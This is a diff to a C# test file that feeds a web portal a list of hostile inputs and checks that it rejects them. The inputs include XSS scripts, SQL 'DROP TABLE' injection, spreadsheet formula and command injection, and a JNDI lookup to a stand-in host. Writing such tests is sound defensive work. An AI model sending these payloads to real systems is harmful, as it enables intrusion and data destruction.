@@ -24,7 +24,7 @@ public sealed class HostileDataTests(ApiPortal bench) : UiTest, IClassFixture<Ap
     [
         "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>", "javascript:alert(1)", "=HYPERLINK(\"https://evil.test\",\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0",
         "a\0b", "a\r\nSet-Cookie: portal=x", "\u202egpj.exe", "\u2066a\u2069", "\ud800", "\udc00\ud800x", "\u001b[31mred", "\ufffe\uffff", "'; DROP TABLE \"Affiliates\";--", "{{constructor.constructor('x')()}}",
-        "${jndi:ldap://evil.test/a}", "%0d%0aX: y", "\u2028\u2029", "\u0085\u009b", "z\u0335\u0335\u0335\u0335\u0335", new string('x', 1_000_000), string.Concat(Enumerable.Repeat("😀", 300)), new string('<', 255), " ", "\u200b",
+        "${jndi:ldap://evil.test/a}", "%0d%0aX: y", "\u2028\u2029", "\u0085\u009b", "z\u0335\u0335\u0335\u0335\u0335", new string('x', 250_000), string.Concat(Enumerable.Repeat("😀", 300)), new string('<', 255), " ", "\u200b",
     ];
 
     public static TheoryData<int> Each => [.. Enumerable.Range(0, Texts.Length)];
@@ -88,6 +88,8 @@ public sealed class HostileDataTests(ApiPortal bench) : UiTest, IClassFixture<Ap
         await bytes.RefusedAsync(HttpStatusCode.BadRequest, "invalid-json");
         using var large = await bench.Script.PushAsync("[\"" + new string('x', 5_000_000) + "\"]");
         await large.RefusedAsync(HttpStatusCode.RequestEntityTooLarge, "too-large");
+        var one = await bench.Script.ResultsAsync($$"""[{"id":900001,"email":"x1@ok.example"},{"id":900002,"email":"x2@ok.example","notes":"{{new string('x', 1_000_000)}}"},{"id":900003,"email":"x3@ok.example"}]""");
+        Assert.Equal(["accepted", "notes too-long", "accepted"], one.Select(r => r.Verdict()));
         using var cut = await bench.Script.PushAsync("[{\"id\":1,");
         await cut.RefusedAsync(HttpStatusCode.BadRequest, "invalid-json");
     }
